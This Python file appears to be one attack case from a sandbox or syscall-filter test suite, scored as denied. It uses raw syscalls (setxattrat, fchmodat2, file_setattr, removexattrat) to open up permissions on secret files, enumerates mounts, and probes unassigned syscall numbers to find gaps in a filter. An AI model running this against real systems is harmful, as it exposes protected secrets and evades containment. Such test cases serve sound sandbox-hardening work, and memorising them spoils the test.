"""Changes secrets by calls that are younger than most filters, and asks for what only newer kernels tell."""

# outcome: denied
# points: 0

import ctypes
import os
import struct


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    entries = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 6, 0xFFFFFFFF) for tag in (1, 4, 0x20))
    held = ctypes.create_string_buffer(entries, len(entries))
    value = struct.pack("<QII", ctypes.addressof(held), len(entries), 0)
    flags, everything = bytes(24), struct.pack("<IIQQQ", 32, 0, (1 << 64) - 1, 0, 0)
    answer = ctypes.create_string_buffer(800)
    calls = {"listmount": (458, everything, answer, 100, 0), "statmount": (457, everything, answer, 800, 0)}
    for number, path in enumerate(map(os.fsencode, world["secrets"])):
        calls[f"setxattrat {number}"] = (463, -100, path, 0, b"system.posix_acl_access", value, 16)
        calls[f"removexattrat {number}"] = (466, -100, path, 0, b"user.x")
        calls[f"file_setattr {number}"] = (469, -100, path, flags, 24, 0)
        calls[f"fchmodat2 {number}"] = (452, -100, path, 0o666, 0)
    for number in (470, 471, 500, 1000, 1023):
        calls[f"call {number}"] = (number, 0, 0, 0, 0, 0, 0)
    not_implemented = 38
    return [
        name
        for name, (number, *arguments) in calls.items()
        if libc.syscall(ctypes.c_long(number), *arguments) >= 0 or ctypes.get_errno() != not_implemented
    ]
